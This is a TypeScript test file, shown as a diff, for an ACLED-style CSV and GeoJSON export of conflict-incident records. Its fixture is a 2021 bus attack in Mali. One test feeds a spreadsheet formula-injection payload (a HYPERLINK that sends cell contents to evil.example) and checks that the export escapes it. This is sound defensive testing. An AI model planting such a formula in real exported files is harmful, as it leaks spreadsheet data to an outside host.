@@ -1,0 +1,114 @@
+import Papa from 'papaparse';
+import { describe, expect, it } from 'vitest';
+import { ACLED_COLUMNS, acledExport, incidentsGeoJson } from '../../../src/core/export/acled';
+import { incident, source } from '../factories';
+
+// The columns of ACLED's current export, as the incidents issue quotes them.
+const ACLED_HEADER =
+  'event_id_cnty, event_date, year, time_precision, disorder_type, event_type, sub_event_type, actor1, assoc_actor_1, inter1, actor2, assoc_actor_2, inter2, interaction, civilian_targeting, iso, region, country, admin1, admin2, admin3, location, latitude, longitude, geo_precision, source, source_scale, notes, fatalities, tags, timestamp';
+
+const parse = (text: string) =>
+  Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
+
+const bus = source({ id: 'src-aj', title: 'Mali: 31 killed in attack on bus', publisher: 'Al Jazeera' });
+const rfi = source({ id: 'src-rfi', title: 'Au moins 31 morts', publisher: 'RFI' });
+const attack = incident({
+  id: '7f3a9c10-1111-4222-8333-944455556666',
+  date: '2021-12-03',
+  datePrecision: 'day',
+  location: { name: 'Songho', admin1: 'Mopti', country: 'Mali', latitude: 14.2, longitude: -3.6 },
+  eventType: 'Violence against civilians',
+  subEventType: 'Attack',
+  perpetrator: 'JNIM',
+  target: 'Civilians (Mali)',
+  fatalities: { low: 31, best: 32, high: 35 },
+  injured: 17,
+  description: 'Gunmen fired on a bus taking traders to Bandiagara market.',
+  tags: ['bus', 'market day'],
+  sourceIds: ['src-aj', 'src-rfi'],
+  updatedAt: Date.UTC(2021, 11, 9, 12),
+});
+
+describe('ACLED export', () => {
+  it('has the 31 columns of ACLED, in its order and spelling', () => {
+    expect(ACLED_COLUMNS.join(', ')).toBe(ACLED_HEADER);
+    const { events } = acledExport([attack], [bus, rfi]);
+    expect(events.split('\r\n')[0]).toBe(ACLED_HEADER.replaceAll(', ', ','));
+  });
+
+  it('writes an incident as ACLED would code it, the most conservative figure counted', () => {
+    const [row] = parse(acledExport([attack], [bus, rfi]).events).data;
+    expect(row).toMatchObject({
+      event_id_cnty: expect.stringMatching(/^MLI\d+$/) as unknown as string,
+      event_date: '2021-12-03',
+      year: '2021',
+      time_precision: '1',
+      disorder_type: 'Political violence',
+      event_type: 'Violence against civilians',
+      sub_event_type: 'Attack',
+      actor1: 'JNIM',
+      actor2: 'Civilians (Mali)',
+      civilian_targeting: 'Civilian targeting',
+      iso: '466',
+      region: 'Western Africa',
+      country: 'Mali',
+      admin1: 'Mopti',
+      location: 'Songho',
+      latitude: '14.2',
+      longitude: '-3.6',
+      geo_precision: '1',
+      source: 'Al Jazeera; RFI',
+      notes: 'Gunmen fired on a bus taking traders to Bandiagara market.',
+      fatalities: '31',
+      tags: 'bus; market day',
+      timestamp: String(Date.UTC(2021, 11, 9, 12) / 1000),
+    });
+  });
+
+  it('keeps what ACLED has no column for in a sidecar, keyed by the same event id', () => {
+    const { events, sidecar } = acledExport([attack], [bus, rfi]);
+    const [side] = parse(sidecar).data;
+    expect(side).toEqual({
+      event_id_cnty: parse(events).data[0]!.event_id_cnty,
+      fieldbook_id: attack.id,
+      fatalities_low: '31',
+      fatalities_best: '32',
+      fatalities_high: '35',
+      injured: '17',
+      source_ids: 'src-aj; src-rfi',
+      source_titles: 'Mali: 31 killed in attack on bus; Au moins 31 morts',
+    });
+  });
+
+  it('escapes cells a spreadsheet would run as formulas, and quotes commas and quotes', () => {
+    const hostile = incident({
+      ...attack,
+      id: 'b0000000-0000-4000-8000-000000000001',
+      description: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      perpetrator: 'Katiba Macina, "Front de libération du Macina"',
+    });
+    const [row] = parse(acledExport([hostile], []).events).data;
+    expect(row!.notes).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
+    expect(row!.actor1).toBe('Katiba Macina, "Front de libération du Macina"');
+  });
+
+  it('places incidents with coordinates on a GeoJSON map and counts the others', () => {
+    const unplaced = incident({
+      ...attack,
+      id: 'c0000000-0000-4000-8000-000000000002',
+      location: { name: 'near Boni', admin1: 'Mopti', country: 'Mali' },
+    });
+    const { geojson, unplaced: count } = incidentsGeoJson([attack, unplaced], [bus, rfi]);
+    const parsed = JSON.parse(geojson) as {
+      features: { geometry: { coordinates: number[] }; properties: Record<string, unknown> }[];
+    };
+    expect(count).toBe(1);
+    expect(parsed.features).toHaveLength(1);
+    expect(parsed.features[0]!.geometry.coordinates).toEqual([-3.6, 14.2]);
+    expect(parsed.features[0]!.properties).toMatchObject({
+      fatalities: 31,
+      fatalities_high: 35,
+      location: 'Songho',
+    });
+  });
+});
